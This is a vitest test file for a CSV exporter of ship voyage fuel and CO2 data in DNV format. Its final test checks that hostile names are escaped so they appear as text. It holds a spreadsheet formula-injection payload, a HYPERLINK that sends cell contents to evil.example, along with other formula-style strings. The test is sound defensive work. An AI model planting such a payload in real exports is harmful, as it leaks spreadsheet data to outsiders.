import { parse } from "csv-parse/sync";
import { describe, expect, it } from "vitest";
import { dnvFileName, dnvVoyageCsv } from "./dnvVoyageCsv.js";
import { A, VESSEL } from "./fixtures.js";

describe("DNV voyage file", () => {
  const csv = dnvVoyageCsv({ ...VESSEL, name: 'Nordic "Aurora", II' }, A);
  const rows: Record<string, string>[] = parse(csv, { columns: true });

  it("has one row per fuel type with the voyage, fuel, CO2 and cargo columns", () => {
    expect(rows).toHaveLength(2);
    expect(rows[0]).toMatchObject({
      IMO: "9395044",
      VesselName: 'Nordic "Aurora", II',
      DeparturePortLoCode: "NOOSL",
      ArrivalPortLoCode: "NLRTM",
      DepartureUtc: "2025-03-01T06:00:00.000Z",
      DistanceNm: "600",
      TimeAtSeaHours: "60",
      TimeAtBerthHours: "36",
      NonCommercial: "No",
      FuelType: "Heavy fuel oil",
      FuelTonnesAtSea: "50",
      CO2TonnesAtSea: "155.7",
      Method: "Flow meters",
      "Cargo Tonnes": "30000",
      "Cargo TEU": "0",
    });
    // MDO: 4 t at berth x 3.206 = 12.824 t
    expect(rows[1]).toMatchObject({
      FuelShortName: "MDO",
      FuelTonnesAtBerth: "4",
      CO2TonnesAtBerth: "12.824",
    });
  });

  it("ends lines with CRLF and names the file by IMO, date and ports", () => {
    expect(csv.split("\r\n")).toHaveLength(4);
    expect(dnvFileName(VESSEL, A)).toBe("DNV_9395044_2025-03-01_NOOSL-NLRTM.csv");
  });

  it("writes a hostile vessel, voyage or fuel name as text, never a formula, and negative numbers as numbers", () => {
    const hostile = '=HYPERLINK("http://evil.example/?x="&A2,"Open")';
    const voyage = {
      ...A,
      voyageName: hostile,
      cargo: [{ unit: "Tonnes", amount: -3.5 }],
      fuels: [{ ...A.fuels[0]!, fuelType: { ...A.fuels[0]!.fuelType, name: "@SUM(1+1)", shortName: "+X" } }],
    };
    const [row] = parse(dnvVoyageCsv({ ...VESSEL, name: "-Aurora" }, voyage), { columns: true }) as Record<
      string,
      string
    >[];
    expect(row).toMatchObject({
      VesselName: "'-Aurora",
      VoyageName: `'${hostile}`,
      FuelType: "'@SUM(1+1)",
      FuelShortName: "'+X",
      "Cargo Tonnes": "-3.5",
    });
  });
});
